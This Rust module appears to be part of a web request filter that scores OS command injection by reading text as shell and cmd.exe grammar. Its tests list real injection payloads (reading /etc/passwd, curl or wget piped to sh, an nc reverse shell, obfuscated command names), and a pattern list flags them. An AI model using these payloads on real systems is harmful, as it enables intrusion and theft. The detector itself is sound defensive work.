//! OS command injection, judged by the shell's grammar.
//!
//! Text is read as the inside of a command line: what separates commands (`;` `|` `&` a line feed), what runs
//! another one in place (`$(…)`, backquotes, `<(…)`), what a word is once quotes, backslashes, `$IFS`, empty
//! variables and braces are gone. A separator counts only with a command behind it, and a command whose name is
//! also an English word only with arguments that a sentence does not have. cmd.exe's own grammar (`for /f`, `if
//! exist`, `%var%`) is read beside it.

mod arguments;
mod cmd_exe;
mod expansion;
mod question;
mod reader;
mod word;

use arguments::Arguments;
use question::{ends_in_prose, goes_on, is_developers, is_filter, is_interpreter, is_list};
use reader::{MAX_WORD, Text, Words, read_command};
use word::{Command, command};

use super::finding::Findings;
use super::marks::Marks;
use super::prose::{MAX_TOLD, is_free_text};
use super::target::{Part, Place};
use crate::request::AttackClass::Cmdi;

/// Most command positions tried in one part. A command line of an attack has a handful.
const MAX_COMMANDS: usize = 1024;

/// How a command position was reached.
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
enum Door {
    /// The part begins here.
    Start,
    /// After `;` `|` `&` `&&` `||` or a line feed.
    Separator,
    /// Inside `$(…)`, backquotes or `<(…)`: the shell runs it in place.
    Substitution,
}

/// What a shell's syntax consists of; without any of it a text can only be a command as a whole.
const SYNTAX: Marks = Marks::SEMICOLON
    .and(Marks::PIPE)
    .and(Marks::DOLLAR)
    .and(Marks::QUOTE)
    .and(Marks::LINE)
    .and(Marks::BACKSLASH)
    .and(Marks::ANGLE)
    .and(Marks::SPACE)
    .and(Marks::CARET)
    .and(Marks::BRACE)
    .and(Marks::PERCENT)
    .and(Marks::PLUS);

/// What can separate or nest commands, or disguise one. Without any of it there is one command at most, at the
/// beginning.
const SEPARATORS: Marks = Marks::SEMICOLON
    .and(Marks::PIPE)
    .and(Marks::DOLLAR)
    .and(Marks::QUOTE)
    .and(Marks::LINE)
    .and(Marks::BACKSLASH)
    .and(Marks::ANGLE)
    .and(Marks::CARET)
    .and(Marks::BRACE)
    .and(Marks::BRACKET)
    .and(Marks::PERCENT)
    .and(Marks::EQUALS)
    .and(Marks::PAREN);

/// Whether `part` is, by its name or as a program's path, a command even without any syntax.
pub(super) fn is_asked_for(part: &Part<'_>) -> bool {
    asks_for_command(part.name)
        || part.place == Place::Value && names_program_file(part.lower)
        || part.after_double_ampersand
}

/// Judges one part.
pub(super) fn judge(part: &Part<'_>, found: &mut Findings) {
    if !part.marks.any(SYNTAX) && !is_asked_for(part) {
        return;
    }
    let separated = begins_with_separator(part.text);
    let mute = matches!(part.place, Place::UserAgent | Place::Referer) && !separated;
    if mute && !part.marks.any(Marks::DOLLAR.and(Marks::QUOTE)) {
        return;
    }
    if !part.marks.any(SEPARATORS) {
        if part.place != Place::Path {
            judge_command(part, 0, Door::Start, &mut Text::new(part.lower), found);
        }
        if part.marks.any(Marks::SPACE) {
            cmd_exe::judge(part, found);
        }
        return;
    }
    if is_list(part.lower) {
        return;
    }
    let mut positions = Positions { text: part.lower, at: 0, first: part.place != Place::Path };
    let mut text = Text::new(part.lower);
    for _ in 0..MAX_COMMANDS {
        let Some((at, door)) = positions.next() else { break };
        judge_command(part, at, door, &mut text, found);
    }
    expansion::judge(part, found);
    let separated = part.place == Place::Name && part.marks.any(Marks::SEMICOLON);
    if part.marks.any(Marks::SPACE.and(Marks::EQUALS).and(Marks::PERCENT)) || separated {
        cmd_exe::judge(part, found);
    }
}

/// Whether a text begins with what ends a command: no honest user agent does.
pub(super) fn begins_with_separator(text: &[u8]) -> bool {
    matches!(text.first(), Some(b';' | b'|' | b'&'))
}

/// Walks the positions at which a shell would look for a command.
struct Positions<'t> {
    text: &'t [u8],
    at: usize,
    first: bool,
}

impl Positions<'_> {
    fn next(&mut self) -> Option<(usize, Door)> {
        if std::mem::take(&mut self.first) {
            return Some((0, Door::Start));
        }
        while let Some(skipped) = self.text.get(self.at..).and_then(|rest| rest.iter().position(may_separate)) {
            self.at += skipped;
            let (byte, following) = (self.text[self.at], self.text.get(self.at + 1).copied());
            let (skip, door) = match (byte, following) {
                (b'$' | b'<' | b'>', Some(b'(')) => (2, Some(Door::Substitution)),
                (b'`', _) => (1, Some(Door::Substitution)),
                // `&copy;`, `&reg;`: an entity of HTML, whose name is a command's too.
                (b'&', Some(b'c' | b'r')) if is_entity(&self.text[self.at + 1..]) => (5, None),
                // `data:image/png;base64,…`: how the data is written.
                (b';', Some(b'b')) if is_data(self.text, self.at) => (7, None),
                (b';' | b'|' | b'&' | b'\n' | b'\r', _) => (1, Some(Door::Separator)),
                (b'<', Some(b's')) if self.text[self.at..].starts_with(b"<script") => (7, None),
                (b'^' | b'<' | b'{', _) if self.at == 0 => (1, Some(Door::Separator)),
                // `\n` written out: what a shell or a JSON reader behind the parameter makes a line feed of.
                (b'\\', Some(b'n' | b'r')) => (2, Some(Door::Separator)),
                (b'\\', _) => (2, None),
                _ => (1, None),
            };
            self.at += skip;
            if let Some(door) = door {
                return Some((self.at, door));
            }
        }
        None
    }
}

/// Whether a byte may separate or nest commands, or keeps the one behind it from that.
fn may_separate(byte: &u8) -> bool {
    static BYTES: [bool; 256] = {
        let bytes = *b"$<>`&;|\n\r^{\\";
        let mut table = [false; 256];
        let mut at = 0;
        while at < bytes.len() {
            table[bytes[at] as usize] = true;
            at += 1;
        }
        table
    };
    BYTES[usize::from(*byte)]
}

/// Longest type of a data URL that is looked for: `application/vnd.…` with its parameters.
const MAX_DATA_TYPE: usize = 96;

/// Whether the semicolon at `at` of `text` ends the type of a data URL (RFC 2397).
fn is_data(text: &[u8], at: usize) -> bool {
    let before = &text[at.saturating_sub(MAX_DATA_TYPE)..at];
    let written =
        text[at..].starts_with(b";base64,") || text[at..] == *b";base64" || text[at..].starts_with(b";base64 in ");
    written
        && memchr::memmem::rfind(before, b"data:")
            .is_some_and(|data| !before[data..].iter().any(|byte| matches!(byte, b' ' | b'|' | b'&' | b'`')))
}

fn is_entity(text: &[u8]) -> bool {
    text.starts_with(b"copy;") || text.starts_with(b"reg;")
}

fn judge_command(part: &Part<'_>, at: usize, door: Door, text: &mut Text<'_>, found: &mut Findings) {
    let Some(words) = read_command(text, at) else { return };
    // `printf("…")`: a function of a language, no command.
    let called = part.lower.get(words.name_end) == Some(&b'(');
    let known = if words.name.len() < MAX_WORD && !called { command(&words.name) } else { None };
    let Some(kind) = known else {
        judge_unknown(part, at, door, &words, text, found);
        return;
    };
    if matches!(&*words.name, b"export" | b"declare" | b"set" | b"readonly" | b"local")
        && let Some(inner) = read_command(text, words.name_end)
        && inner.assigned
        && runs_its_variable(text, inner.end, part.lower[words.name_end..].trim_ascii_start())
    {
        let reason = "puts a command into a variable and runs it";
        found.add(Cmdi, 60, part.offset + at..part.offset + inner.end, reason);
    }
    if is_wrapper(&words.name)
        && let Some(inner) = read_command(text, words.name_end)
        && command(&inner.name) >= Some(Command::Plain)
        && !(door == Door::Start && is_developers(&inner.name))
    {
        found.add(Cmdi, 55, part.offset + at..part.offset + inner.end, "runs a command through another");
    }
    let arguments = Arguments::of(&words.name, part.lower, words.name_end, words.end, words.braced);
    let weight = weigh(part, at, door, kind, &words, arguments);
    // `Main St; Apt 4`: a name in an address. Where case makes no difference no program is called like it with a number alone.
    let said = kind == Command::Ambiguous
        && door == Door::Separator
        && is_capitalised(&part.text[at..])
        && is_number(&part.lower[words.name_end..words.end]);
    let weight = if said { weight.min(10) } else { weight };
    if weight > 0 {
        let reason = match door {
            Door::Start => "is a command line",
            Door::Separator => "ends a command and begins another",
            Door::Substitution => "runs a command in place of a value",
        };
        found.add(Cmdi, weight, part.offset + at..part.offset + words.end, reason);
    }
    if words.disguised && kind >= Command::Plain && weight >= 40 {
        found.add(Cmdi, 20, part.offset + at..part.offset + words.name_end, "hides a command's name from filters");
    }
}

/// Whether a blank and a word that is written as a name is stand at the beginning of `text`.
fn is_capitalised(text: &[u8]) -> bool {
    matches!(text, [b' ', first, second, ..] if first.is_ascii_uppercase() && second.is_ascii_lowercase())
}

/// Whether `text` is a number with blanks around it, of a few digits.
fn is_number(text: &[u8]) -> bool {
    let number = text.trim_ascii();
    (1..=5).contains(&number.len()) && number.iter().all(u8::is_ascii_digit)
}

/// Commands whose argument is a command.
fn is_wrapper(name: &[u8]) -> bool {
    matches!(
        name,
        b"time"
            | b"sudo"
            | b"nohup"
            | b"exec"
            | b"env"
            | b"command"
            | b"nice"
            | b"builtin"
            | b"setsid"
            | b"timeout"
            | b"busybox"
            | b"xargs"
            | b"eval"
    )
}

/// Points for a command that was found.
fn weigh(part: &Part<'_>, at: usize, door: Door, kind: Command, words: &Words, arguments: Arguments) -> u8 {
    let bare_name = part.place == Place::Name && door == Door::Start;
    if door == Door::Start && is_developers(&words.name) && !asks_for_command(part.name) {
        return 0;
    }
    let base = match (door, kind) {
        (Door::Substitution, Command::Tool | Command::Plain) => 70,
        (Door::Substitution, Command::Ambiguous) => 40,
        (Door::Separator, Command::Tool) => 50,
        (Door::Separator, Command::Plain) => 40,
        (Door::Separator, Command::Ambiguous) => 25,
        // The value *is* a command: with an argument that a sentence does not have, or under a name that asks for
        // one.
        (Door::Start, Command::Tool | Command::Plain) => match arguments {
            Arguments::None if names_program_file(&words.name) => 50,
            Arguments::None if is_free_text(part.name) && is_told(part.lower) => 25,
            Arguments::None if matches!(part.lower.get(words.end), Some(b'|' | b';')) && goes_on(part, words) => 55,
            // `id eq 5`, `id,name`: the most common name of a column.
            Arguments::Technical if *words.name == *b"id" => 0,
            // "chmod 777 bad idea": a question about a command.
            Arguments::Technical if ends_in_prose(&part.lower[words.name_end..words.end]) => 25,
            // `shell=bash`: which one, not what to run.
            Arguments::None if asks_for_command(part.name) && is_interpreter(&words.name) => 30,
            // People look for command lines; a search runs none.
            Arguments::Technical if is_free_text(part.name) && !goes_far(&part.lower[words.name_end..]) => 25,
            Arguments::Technical => 50,
            Arguments::Prose if asks_for_command(part.name) => 50,
            // `Cmd=Ping`: what a protocol calls its requests, and nothing where a shell runs it.
            Arguments::None if asks_for_command(part.name) && *words.name == *b"ping" => 30,
            Arguments::None if asks_for_command(part.name) => 60,
            Arguments::None if words.disguised || words.braced => 55,
            _ => 0,
        },
        (Door::Start, Command::Ambiguous) => match arguments {
            Arguments::Technical if words.disguised || words.braced => 50,
            Arguments::Technical if asks_for_command(part.name) => 45,
            Arguments::Technical => 20,
            _ if asks_for_command(part.name) => 30,
            _ => 0,
        },
    };
    let extra = match arguments {
        Arguments::Technical => 25,
        Arguments::None if !bare_name => 15,
        Arguments::None | Arguments::Prose => 0,
    };
    if door == Door::Start {
        return if base <= 25 && is_free_text(part.name) {
            base
        } else if bare_name && arguments != Arguments::Technical && !part.after_double_ampersand {
            0
        } else {
            base + extra / 2
        };
    }
    // Markdown sets names of tools in backquotes, and people what they ask about.
    let quoted =
        door == Door::Substitution && part.lower[..at].ends_with(b"`") && part.lower.get(words.end) == Some(&b'`');
    if quoted && is_free_text(part.name) && arguments != Arguments::Technical && in_sentence(part.lower, at, words.end)
    {
        return 20;
    }
    // `ls | wc -l`, `index=a | head 10` in a search: half of a command line that somebody asks about, or a pipe of a
    // query language.
    let piped = kind == Command::Ambiguous && part.lower[..at].ends_with(b"|") && part.lower.get(at) == Some(&b' ');
    if door == Door::Separator && is_free_text(part.name) && (is_told(part.lower) || piped && !goes_far(part.lower)) {
        return 10;
    }
    // Nobody writes a word right behind a separator and then stops, or with a program's or an account's name.
    let object = part.lower[words.name_end..words.end].trim_ascii();
    let named = matches!(object, b"root" | b"admin" | b"passwd") || command(object).is_some();
    // `& ver`: a separator, a command, and nothing else.
    let alone = arguments == Arguments::None
        && words.end == part.lower.len()
        && part.lower[..at].iter().all(|byte| matches!(byte, b'&' | b'|' | b';' | b' ' | b'\n' | b'\r'));
    // `div|split`: a list of two words, and nothing that the second would do with the first.
    let listed = part.lower[..at].strip_suffix(b"|").and_then(<[u8]>::last).is_some_and(u8::is_ascii_alphabetic);
    if listed && arguments == Arguments::None && is_filter(&words.name) {
        return 10;
    }
    let tight = kind == Command::Ambiguous
        && (alone || (arguments == Arguments::None || named) && words.name_end - at == words.name.len());
    if tight {
        return 50;
    }
    if door == Door::Substitution && is_developers(&words.name) && part.lower[..at].ends_with(b"`") {
        return 20;
    }
    if door == Door::Substitution && part.lower[..at].ends_with(b"$(") {
        return base + extra;
    }
    // `;ps aux`: in a sentence a blank follows the semicolon.
    let close = door == Door::Separator && words.name_end - at == words.name.len() && part.place != Place::Path;
    if arguments == Arguments::Prose && kind == Command::Plain && close {
        return 50;
    }
    if arguments == Arguments::Prose && kind < Command::Tool { base / 2 } else { base + extra }
}

/// Whether the text begins with a command, and none in it goes far.
fn is_told(text: &[u8]) -> bool {
    let first = text.first().is_some_and(u8::is_ascii_alphabetic);
    first
        && !goes_far(text)
        && read_command(&mut Text::new(text), 0).is_some_and(|words| command(&words.name).is_some())
}

/// Whether a word of letters alone stands before or behind what the backquotes around `at..end` hold.
fn in_sentence(text: &[u8], at: usize, end: usize) -> bool {
    let letters =
        |word: Option<&[u8]>| word.is_some_and(|word| word.len() > 1 && word.iter().all(u8::is_ascii_alphabetic));
    let behind = text.get(end + 1..).and_then(|rest| rest.strip_prefix(b" "));
    let before = text.get(..at - 1).and_then(|head| head.strip_suffix(b" "));
    letters(behind.and_then(|rest| rest[..rest.len().min(MAX_WORD)].split(|byte| *byte == b' ').next()))
        || letters(
            before.and_then(|head| head[head.len().saturating_sub(MAX_WORD)..].rsplit(|byte| *byte == b' ').next()),
        )
}

/// Whether the arguments reach for something that no question about a command names: a file of the host, an address, a
/// second command.
fn goes_far(arguments: &[u8]) -> bool {
    let arguments = &arguments[..arguments.len().min(MAX_TOLD)];
    [
        &b"/etc/"[..],
        b"/c ",
        b":\\",
        b"/proc/",
        b"/tmp/",
        b"/dev/",
        b"://",
        b"|sh",
        b"| sh",
        b"|bash",
        b"| bash",
        b"|nc",
        b";",
        b"`",
        b"$(",
        b"/bin/",
        b"<",
        b">",
    ]
    .iter()
    .any(|mark| memchr::memmem::find(arguments, mark).is_some())
}

/// `/usr/bin/x`, `bin/x`: a program by its path.
fn names_program_file(word: &[u8]) -> bool {
    let path = word.strip_prefix(b"/").unwrap_or(word);
    let path = path.strip_prefix(b"usr/").unwrap_or(path);
    let path = path.strip_prefix(b"local/").unwrap_or(path);
    let program = path.strip_prefix(b"bin/").or_else(|| path.strip_prefix(b"sbin/"));
    program.is_some_and(|program| {
        program.len() > 1
            && program.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.'))
    })
}

/// Names under which web shells and diagnostic pages take a command.
fn asks_for_command(name: &[u8]) -> bool {
    matches!(
        name,
        b"cmd"
            | b"command"
            | b"exec"
            | b"execute"
            | b"shell"
            | b"rce"
            | b"run"
            | b"system"
            | b"c"
            | b"0"
            | b"cm"
            | b"ping"
            | b"process"
            | b"daemon"
            | b"upload"
    )
}

/// A command that is no known program, yet can be nothing else: `CMD=$'id';$CMD`, `/???/b??/w?o?m?`, `{x,y}`.
fn judge_unknown(part: &Part<'_>, at: usize, door: Door, words: &Words, whole: &mut Text<'_>, found: &mut Findings) {
    let text = &part.lower[at..words.end];
    let variable =
        text.first() == Some(&b'$') && text.get(1).is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'{');
    let (weight, reason) = match door {
        Door::Start
            if names_program_file(&words.name) && words.end == part.lower.len() && part.place == Place::Value =>
        {
            (50, "names a program of the system")
        }
        Door::Separator if *words.name == *b"." && reads_a_file(&part.lower[words.name_end..words.end]) => {
            (55, "has the shell run a file")
        }
        _ if is_glob(&words.name) && part.place != Place::Path => (60, "names a program by wildcards"),
        Door::Start | Door::Separator if words.assigned && runs_its_variable(whole, words.end, text) => {
            (60, "puts a command into a variable and runs it")
        }
        Door::Separator if variable && part.place != Place::Path && text.len() > 2 && !words.name.contains(&b'=') => {
            (25, "runs the value of a variable")
        }
        Door::Substitution if !words.name.is_empty() && part.place != Place::Referer && text.first() != Some(&b'`') => {
            (25, "has the form of a command substitution")
        }
        _ => return,
    };
    found.add(Cmdi, weight, part.offset + at..part.offset + words.end, reason);
}

/// `/???/b?n/c?t`, `/e*c/p*wd`: a path of which two characters or more are left to the shell.
fn is_glob(word: &[u8]) -> bool {
    let wild = |mark: u8| word.iter().filter(|byte| **byte == mark).count();
    // `/*` opens a comment, of C's and of SQL's; `/api/**` is a pattern of routes, `/foo.*bar.*/` one of text.
    let first = word.split(|byte| *byte == b'/').nth(1).unwrap_or_default();
    let pattern =
        word.starts_with(b"/*") || [&b"**"[..], b".*"].iter().any(|mark| memchr::memmem::find(word, mark).is_some());
    let stars = wild(b'*') >= 2 && !pattern && first.contains(&b'*') && !word.ends_with(b"*/");
    word.starts_with(b"/")
        && (wild(b'?') >= 2 || stars)
        && !word.contains(&b'=')
        && !word.windows(3).any(|three| three.is_ascii() && three == b"://")
}

/// ` /tmp/x`: what follows the shell's dot command.
fn reads_a_file(arguments: &[u8]) -> bool {
    let path = arguments.trim_ascii();
    arguments.starts_with(b" ") && (path.starts_with(b"/") || path.starts_with(b"./")) && !path.contains(&b' ')
}

/// `x=…;$x`: whether the variable that `assignment` sets is used in `text` behind `from`.
fn runs_its_variable(text: &mut Text<'_>, from: usize, assignment: &[u8]) -> bool {
    let name = assignment.split(|byte| *byte == b'=').next().unwrap_or_default();
    let plain =
        !name.is_empty() && name.len() <= 32 && name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_');
    plain && text.uses_variable(name, from)
}

#[cfg(test)]
mod tests {
    use super::super::decode::Tricks;
    use super::super::marks::marks_of;
    use super::*;

    fn score(text: &str) -> u8 {
        let lower = text.to_ascii_lowercase();
        let part = Part {
            place: Place::Value,
            text: text.as_bytes(),
            lower: lower.as_bytes(),
            offset: 0,
            name: b"x",
            path: b"/",
            marks: marks_of(text.as_bytes()),
            pairs: &super::super::pairs::Pairs::UNKNOWN,
            tricks: Tricks::default(),
            after_double_ampersand: false,
        };
        let mut found = Findings::default();
        judge(&part, &mut found);
        found.sum().map_or(0, |(_, score)| score)
    }

    #[test]
    fn command_lines_are_commands() {
        for text in [
            ";id",
            "x;id",
            "x|whoami",
            "127.0.0.1 && cat /etc/passwd",
            "$(curl http://203.0.113.5/x)",
            "`uname -a`",
            "a\ncat /etc/hosts",
            ";w'h'o'a'mi",
            "|c\\at /etc/passwd",
            ";cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "ping -c 3 192.0.2.1",
            "x; find / -name id_rsa",
            ";CMD=$'ls -la';$CMD",
            "|/usr/bin/id",
            "x;wget -O- 192.0.2.7/s|sh",
            "nc -e /bin/sh 192.0.2.1 4444",
            "& ipconfig /all",
            "/???/b??/nc 192.0.2.1",
            "for /f %i in ('dir') do echo %i",
            "if exist c:\\x del c:\\x",
            "$((7*191))",
            "cmd /c dir c:\\",
        ] {
            assert!(score(text) >= 50, "{text} scores {}", score(text));
        }
    }

    #[test]
    fn prose_is_no_command_line() {
        for text in [
            "if the key does not exist, insert it; find the next one",
            "cats & dogs",
            "salt & pepper; time for dinner",
            "Most of us sort by date | more",
            "AT&T",
            "id",
            "echo chamber",
            "the cat sat",
            "R&D; test it",
            "ping pong",
            "a; who knows",
            "price $5 (each)",
            "use `cargo run` to start",
            "head over heels",
            "M;O=D",
        ] {
            assert!(score(text) < 50, "{text} scores {}", score(text));
        }
    }
}
